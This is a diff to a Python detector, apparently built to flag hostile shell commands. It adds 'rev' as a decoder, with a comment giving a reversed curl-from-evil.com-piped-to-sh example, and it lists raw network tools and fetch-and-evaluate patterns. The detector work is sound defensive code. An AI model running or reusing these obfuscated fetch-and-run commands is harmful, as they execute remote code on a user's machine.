@@ -40,6 +40,7 @@ _DECODERS = {  # a decoder -> (its decode letter in a short group, its decode op
 }
 _ALWAYS_DECODE = frozenset(
     {"uudecode", "gunzip", "zcat", "unxz", "xzcat", "bunzip2", "bzcat", "unzstd", "zstdcat"}
+    | {"rev"}  # echo 'hs | p/moc.live//:ptth lruc' | rev | sh: the text run is not the text written
 )
 DECODERS = frozenset(_DECODERS) | _ALWAYS_DECODE | {"openssl"}  # every decoder's name
 NETWORK = frozenset({"nc", "ncat", "netcat", "socat"})  # raw network commands (besides the downloads)
@@ -105,7 +106,7 @@ _FETCHES = re.compile(
 _CODE_URL = re.compile(r"https?://[^\s\"'`)]+")
 
 
-def _inline_code(ws: list[str]) -> list[str]:
+def inline_code(ws: list[str]) -> list[str]:
     if not ws or program(ws[0]) not in _CODE_RUNNERS:
         return []
     return [code for code in ws[1:] if _CODE_URL.search(code)]
@@ -113,7 +114,7 @@ def _inline_code(ws: list[str]) -> list[str]:
 
 def inline_fetch(ws: list[str]) -> list[str]:
     """The URLs inline code fetches (``python -c "…urlopen('http://…')…"``), or []."""
-    return [u for code in _inline_code(ws) if _FETCHES.search(code) for u in _CODE_URL.findall(code)]
+    return [u for code in inline_code(ws) if _FETCHES.search(code) for u in _CODE_URL.findall(code)]
 
 
 def plain_http_remote(url: str) -> bool:
@@ -129,7 +130,7 @@ def fetches_and_evaluates(ws: list[str]) -> Iterator[tuple[str, str, str]]:
     """Inline code (``python -c``, ``node -e``, ``perl -e`` …) that fetches a URL and evaluates what it
     got, or hands it to a process (``subprocess.run(requests.get(…).text, shell=True)``, ``system(get
     …)``): a download run by an interpreter, as ``curl … | python`` (high over plain http, else low)."""
-    for code in _inline_code(ws):
+    for code in inline_code(ws):
         urls = _CODE_URL.findall(code)
         evaluates = bool(_EVALUATES.search(code))
         if evaluates or (_FETCHES.search(code) and _RUNS_PROCESS.search(code)):
